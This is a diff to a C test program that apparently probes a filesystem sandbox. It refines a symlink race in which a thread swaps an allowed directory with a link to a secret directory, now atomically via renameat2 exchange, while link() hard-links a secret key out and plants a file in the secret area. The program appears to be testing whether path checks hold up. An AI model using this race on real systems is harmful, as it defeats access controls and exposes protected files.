@@ -322,18 +322,15 @@ static void clone_vm(void) {
     printf("clone_vm opened=%ld refused=%ld\n", opened, refused);
 }
 
-/* A thread swaps allowed/d between a real directory and a symlink to secret/ while link()
+/* A thread swaps allowed/d between a real directory and a symlink to secret/ (atomically,
+ * RENAME_EXCHANGE), so that no symlink is there when the path is checked, while link()
  * copies d/key out (a hard link to the secret) and links a file into d (into secret/). */
-static char swap_dir[4200], swap_real[4200], swap_spare[4200];
+static char swap_dir[4200], swap_spare[4200];
 
 static void *swap_directory(void *unused) {
     (void)unused;
-    while (!atomic_load(&stop)) {
-        unlink(swap_spare);
-        if (symlink(secret_dir, swap_spare) == 0) rename(swap_spare, swap_dir);
-        spin();
-        unlink(swap_spare);
-        if (symlink(swap_real, swap_spare) == 0) rename(swap_spare, swap_dir);
+    while (!atomic_load(&stop)) { /* the real directory and the symlink trade places */
+        syscall(SYS_renameat2, AT_FDCWD, swap_dir, AT_FDCWD, swap_spare, 2 /* EXCHANGE */);
         spin();
     }
     return NULL;
@@ -342,15 +339,14 @@ static void *swap_directory(void *unused) {
 static void link_race(void) {
     char real_key[4300], from[4300], stolen[4300], into[4300];
     snprintf(swap_dir, sizeof swap_dir, "%s/d", allowed);
-    snprintf(swap_real, sizeof swap_real, "%s/realdir", allowed);
     snprintf(swap_spare, sizeof swap_spare, "%s/d.spare", allowed);
-    snprintf(real_key, sizeof real_key, "%s/key", swap_real);
+    snprintf(real_key, sizeof real_key, "%s/key", swap_dir);
     snprintf(from, sizeof from, "%s/key", swap_dir);
     snprintf(stolen, sizeof stolen, "%s/stolen", allowed);
     snprintf(into, sizeof into, "%s/new-link", swap_dir);
-    mkdir(swap_real, 0755);
+    mkdir(swap_dir, 0755);
     close(open(real_key, O_WRONLY | O_CREAT, 0644));
-    symlink(swap_real, swap_dir);
+    symlink(secret_dir, swap_spare);
     pthread_t thread;
     pthread_create(&thread, NULL, swap_directory, NULL);
     struct timespec start;
